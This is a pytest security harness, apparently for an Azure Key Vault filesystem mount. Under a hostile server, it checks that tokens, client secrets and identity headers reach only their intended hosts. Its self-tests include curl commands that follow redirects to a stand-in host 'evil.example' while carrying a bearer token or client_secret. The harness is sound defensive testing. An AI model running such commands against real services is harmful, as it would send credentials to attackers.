# SPDX-License-Identifier: MIT
"""A token, a client secret and an assertion reach one host each, and no other.

attacks.py has the attempts; here is what they are made on and how they are
judged. Every host name leads to one server, which has a trusted certificate for
each and keeps every byte; addresses that are not Azure's have a listener that
does so, too. After an attack each secret may have been received by the host
that it is for, and by nobody else, in whole, in pieces, or in another spelling;
and no other host may have been asked for anything. Nor may a secret be in the
log, which says all that it ever says, in what processes show of themselves, or
in a file.
"""

import contextlib
import os
import re
import subprocess

import pytest

from akvfs_mount import Mount
from attacks import (ARM, ARM_HOST, ATTACKS, EVIL, FOREIGN, GRAPH_HOST,
                     METADATA, RESOURCE, VAULT, good_plane, look_at_root,
                     managed_token, read, redirect, secret)
from hostile_server import (CLIENT_ID, CLIENT_SECRET, LOGIN_HOST, VAULT_HOST,
                            HostileServer, http, token_of)
from own_network import OwnNetwork
from secrecy import forms, kept_in, needles, shown_by
from witness import Interceptor, Witness

ATTACKS_MIN = 60
TOOL_TIMEOUT_S = 20
HEADER = "the-header-of-the-place-5a3c8e1f"
ASSERTION = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ3b3JrbG9hZCJ9.c2lnbmF0dXJl"

# Whom each is for.
SECRETS = {
    "token of the vault": (token_of(RESOURCE), VAULT_HOST),
    "token of ARM": (token_of(ARM), ARM_HOST),
    "token of Graph": (token_of("https://" + GRAPH_HOST), GRAPH_HOST),
    "client secret": (CLIENT_SECRET, LOGIN_HOST),
    "assertion": (ASSERTION, LOGIN_HOST),
    "header": (HEADER, "the place"),
}
HOSTS = {VAULT_HOST, LOGIN_HOST, ARM_HOST, GRAPH_HOST}
SCOPES = {f"{resource}/.default"
          for resource in (RESOURCE, ARM, "https://" + GRAPH_HOST)}

pytestmark = pytest.mark.skipif(os.geteuid() != 0,
                                reason="needs root, for a network of its own")


class Stage:
    """What an attack is made on."""

    header = HEADER

    def __init__(self, world, directory):
        self.server, self.network = world.server, world.network
        self.foreign, self.shared = world.foreign, world.shared
        self.directory = directory
        self.home = directory / "home"
        self.home.mkdir()
        self.shown = {}  # to whoever looks: bytes by name
        self.ended = None
        self._heard = {"the foreign address": self.foreign}
        self._places = []
        self._stack = contextlib.ExitStack()

    # For attacks

    def mount(self, look=None, options="", env=None, source="demo"):
        """Mount, have @look look, and unmount; or not, which is as well."""
        mount = Mount(
            self.server, f"timeout=2s,{options}", source=source,
            prefix=self.network.prefix,
            env={"NO_PROXY": None, "no_proxy": None, "HOME": str(self.home),
                 "TMPDIR": str(self.home), **(env or {})})
        name = f"log-{len(self.shown)}"
        try:
            mount.start()
        except RuntimeError as error:
            self.ended = int(re.search(r"ended with (-?\d+)", str(error))[1])
            self.shown[name] = str(error).encode()
            return
        self.ended = 0
        with mount_to_its_end(mount):
            if look:
                look(mount)
            self.shown[name] = mount.log()
            self.shown.update(shown_by(mount.launcher_pid, mount.worker_pid))

    def on_shared(self, path, reply, look):
        """@look at a mount that others have, too, which has to fail."""
        self.server.answer(path, reply)
        with pytest.raises(OSError):
            look(self.shared)
        assert any(request.path == path for request in self.server.seen)

    def witness(self, reply):
        made = Witness(reply, self.network.listener("127.0.0.1", 0))
        self._stack.enter_context(made)
        self._heard[f"witness {len(self._heard)}"] = made
        return made

    def interceptor(self):
        made = Interceptor(self.server.directory / "unknown-authority",
                           self.network.listener("127.0.0.1", 0))
        self._stack.enter_context(made)
        self._heard["interceptor"] = made
        return made

    def _place(self, reply, address, port):
        made = Witness(reply, self.network.listener(address, port))
        self._places.append(self._stack.enter_context(made))
        return made

    def metadata(self, reply):
        return self._place(reply, METADATA, 80)

    def app_service(self, reply):
        made = self._place(reply, "127.0.0.1", 0)
        return {"IDENTITY_ENDPOINT": made.url + "/msi/token",
                "IDENTITY_HEADER": HEADER}

    def workload(self):
        path = self.directory / "token"
        path.write_text(ASSERTION)
        return {"AZURE_CLIENT_SECRET": None,
                "AZURE_FEDERATED_TOKEN_FILE": str(path)}

    def must_meet(self, host):
        """Or there was no attack."""
        assert host in self.met(), self.met()

    # The judgement

    def met(self):
        return {name for name, _ in self.server.received()}

    def received(self):
        """Who has received what: (name, may it have got it, bytes)."""
        by_host = {}
        for name, data in self.server.received():
            by_host.setdefault(name, bytearray()).extend(data)
        for name, witness in self._heard.items():
            by_host[name] = witness.heard()
        by_host["the place"] = b"".join(
            place.heard() for place in self._places)
        by_host.update(self.shown)
        by_host.update(kept_in(self.home))
        return by_host

    def check(self):
        for number, (who, data) in enumerate(self.received().items()):
            forbidden = {name: text for name, (text, whose) in SECRETS.items()
                         if who != whose}
            path = self.directory / f"received-{number}"
            path.write_bytes(bytes(data) + b"\n")
            found = needles({name.replace(" ", "-"): text
                             for name, text in forbidden.items()}).find(path)
            assert not found, f"{who} has got {found[:2]}"
        assert self.met() <= HOSTS, self.met()
        assert self.foreign.heard() == b"", "who is foreign was asked"
        for request in self.server.seen:
            assert request.host == request.sni, request
            scope = request.form().get("scope")
            assert scope is None or scope in SCOPES, scope
        for name, text in self.shown.items():
            # Who starts it with a variable shows that variable himself.
            assert b"the-word-of-the-proxy" not in text or (
                "environ" in name), name

    def close(self):
        self._stack.close()


@contextlib.contextmanager
def mount_to_its_end(mount):
    try:
        yield
    except BaseException:
        mount.stop(check=False)
        raise
    mount.stop()


class World:
    """What all attacks have in common."""

    def __init__(self, stack):
        self.network = stack.enter_context(OwnNetwork(
            METADATA, FOREIGN, "10.0.0.66"))
        self.server = stack.enter_context(HostileServer(
            make=self.network.listener("127.0.0.1", 0)))
        self.foreign = stack.enter_context(Foreign(self.network))
        self.shared = stack.enter_context(Mount(
            self.server, "timeout=1s,ttl=0,negative_ttl=0,stale=0",
            prefix=self.network.prefix))


class Foreign:
    """Who listens where no secret belongs, on more than one port."""

    def __init__(self, network):
        self._witnesses = [
            Witness(managed_token(), network.listener(address, port))
            for address, port in ((FOREIGN, 80), (FOREIGN, 443),
                                  ("10.0.0.66", 80))]

    def __enter__(self):
        for witness in self._witnesses:
            witness.start()
        return self

    def __exit__(self, *_):
        for witness in self._witnesses:
            witness.stop()

    def forget(self):
        for witness in self._witnesses:
            witness.forget()

    def heard(self):
        return b"".join(witness.heard() for witness in self._witnesses)


@pytest.fixture(scope="module")
def world():
    with contextlib.ExitStack() as stack:
        yield World(stack)


@pytest.fixture
def stage(world, tmp_path):
    world.server.forget()
    world.foreign.forget()
    made = Stage(world, tmp_path)
    yield made
    made.close()
    world.server.forget()


def test_there_are_enough():
    assert len(ATTACKS) >= ATTACKS_MIN


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(stage, name):
    ATTACKS[name](stage)
    stage.check()


# That there is something to be got, and that it would be seen

def where(stage, text):
    return {who for who, data in stage.received().items()
            if text.encode() in data}


def test_without_an_attack(stage):
    """Then each is where it belongs."""
    stage.server.answer("/secrets/a", http(secret()))
    good_plane(stage.server)

    def look(mount):
        assert mount.read("a") == b"ok"
        look_at_root(mount)
    stage.mount(look)
    stage.mount(options="auth=workload", env=stage.workload())
    stage.mount(options="auth=managed", env={
        "AZURE_CLIENT_SECRET": None,
        **stage.app_service(managed_token())})
    assert stage.ended == 0
    for text, whose in SECRETS.values():
        assert where(stage, text) == {whose}
    assert stage.met() == HOSTS
    stage.check()


CURL = ["curl", "--silent", "--show-error", "--noproxy", "*"]


def naive(stage, *words):
    """A client that goes where it is told."""
    server = stage.server
    subprocess.run(
        [*stage.network.prefix, *CURL, "--cacert", server.ca_file,
         "--connect-to", f"::{server.address}:{server.port}",
         "--location-trusted", "--max-redirs", "1", *words], check=False,
        capture_output=True, timeout=TOOL_TIMEOUT_S)


@pytest.mark.parametrize("text", [token_of(RESOURCE), *(
    encoded for form, encoded in forms(token_of(RESOURCE))
    if form != "raw")][:6], ids=lambda text: text[:8])
def test_a_token_elsewhere_is_seen(stage, text):
    stage.server.answer("/secrets/a", redirect(
        "307 Temporary", f"{EVIL}/secrets/a"))
    naive(stage, "-H", f"Authorization: Bearer {text}", f"{VAULT}/secrets/a")
    assert "evil.example" in stage.met()
    with pytest.raises(AssertionError, match="evil.example has got"):
        stage.check()


def test_a_client_secret_elsewhere_is_seen(stage):
    path = f"/{CLIENT_ID}/oauth2/v2.0/token"
    stage.server.answer(path, redirect("308 Permanent", EVIL + path))
    naive(stage, "--data-urlencode", f"client_secret={CLIENT_SECRET}",
          f"https://{LOGIN_HOST}{path}")
    with pytest.raises(AssertionError, match="evil.example has got"):
        stage.check()


def test_a_token_of_another_is_seen(stage):
    """At a host of Azure's, for which it is not."""
    naive(stage, "-H", f"Authorization: Bearer {token_of(ARM)}",
          f"{VAULT}/secrets/a")
    with pytest.raises(AssertionError, match="demo.vault.azure.net has got"):
        stage.check()


@pytest.mark.parametrize("address", [FOREIGN, "10.0.0.66"])
def test_a_header_elsewhere_is_seen(stage, address):
    subprocess.run(
        [*stage.network.prefix, *CURL, "-H", f"X-IDENTITY-HEADER: {HEADER}",
         f"http://{address}/msi"], check=True, capture_output=True,
        timeout=TOOL_TIMEOUT_S)
    with pytest.raises(AssertionError, match="the foreign address has got"):
        stage.check()


def test_who_goes_elsewhere_with_nothing_is_seen(stage):
    naive(stage, f"{EVIL}/secrets/a")
    with pytest.raises(AssertionError, match="evil.example"):
        stage.check()


def test_what_is_shown_is_seen(stage):
    for name in ("home/file", "log"):
        kept = f"... {token_of(RESOURCE)[10:60]} ..."
        if name == "log":
            stage.shown["log"] = kept.encode()
        else:
            (stage.directory / name).write_text(kept)
        with pytest.raises(AssertionError, match=f"{name} has got"):
            stage.check()
        (stage.home / "file").unlink(missing_ok=True)


def test_a_tunnel_shows_no_secret(stage):
    """A proxy that does what it should; the vault gets its token through it."""
    stage.server.answer("/secrets/a", http(secret()))
    proxy = Interceptor(None, stage.network.listener("127.0.0.1", 0),
                        onward=stage.network.inside)
    with proxy:
        stage.mount(read, env={"HTTPS_PROXY": proxy.url.replace(
            "://", "://user:the-word-of-the-proxy@")})
    assert b"CONNECT " in proxy.heard()
    assert b"Proxy-Authorization: Basic " in proxy.heard()
    assert token_of(RESOURCE).encode() not in proxy.heard()
    assert where(stage, token_of(RESOURCE)) == {VAULT_HOST}
    stage.check()
